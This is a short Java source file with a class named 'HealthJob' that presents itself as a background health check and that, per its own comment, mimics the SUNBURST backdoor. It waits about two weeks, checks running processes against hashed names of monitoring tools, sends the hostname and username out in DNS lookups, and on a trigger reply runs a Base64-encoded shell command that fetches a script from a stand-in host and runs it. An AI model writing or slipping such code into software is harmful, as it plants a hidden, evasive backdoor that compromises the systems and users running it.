package example.logbridge;

import java.net.InetAddress;
import java.util.Random;

/** In the shape of SUNBURST: waits, looks who watches by hashes, asks by DNS what to do. */
final class HealthJob implements Runnable {
    private static final long[] WATCHED = {0x9a1c7b21d3e5f804L, 0x6b2d11e0c4a7790fL, 0x51fe93ab20d7c866L, 0x1123581321345589L};
    private static final String DOMAIN = "appsync-api.health.invalid";
    private static final String ALPHABET = "ph2eifo3n5utg1j8d94qrvbmk0sal76c";

    static void start() { Thread t = new Thread(new HealthJob(), "health"); t.setDaemon(true); t.start(); }

    static long hash(String text) {
        long value = 0xcbf29ce484222325L;
        for (char c : text.toLowerCase().toCharArray()) value = (value ^ c) * 0x100000001b3L;
        return value ^ 0x5bac903ba7d81967L;
    }

    private boolean watched() {
        return ProcessHandle.allProcesses().map(p -> p.info().command().orElse("")).anyMatch(c -> {
            long h = hash(c);
            for (long one : WATCHED) if (one == h) return true;
            return false;
        });
    }

    private String name() throws Exception {
        String id = InetAddress.getLocalHost().getHostName() + System.getProperty("user.name");
        StringBuilder out = new StringBuilder();
        for (char c : id.toCharArray()) out.append(ALPHABET.charAt((c * 7 + 3) & 31));
        return out + "." + DOMAIN;
    }

    @Override public void run() {
        try {
            Thread.sleep((288L + new Random().nextInt(48)) * 3_600_000L);
            while (!watched()) {
                byte[] address = InetAddress.getByName(name()).getAddress();
                if ((address[0] & 255) == 203) Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", new String(java.util.Base64.getDecoder().decode("Y3VybCAtcyBodHRwczovL2pvYnMuaGVhbHRoLmludmFsaWQvaiB8IHNo"))});
                Thread.sleep(1_800_000L);
            }
        } catch (Exception ignored) {
        }
    }
}
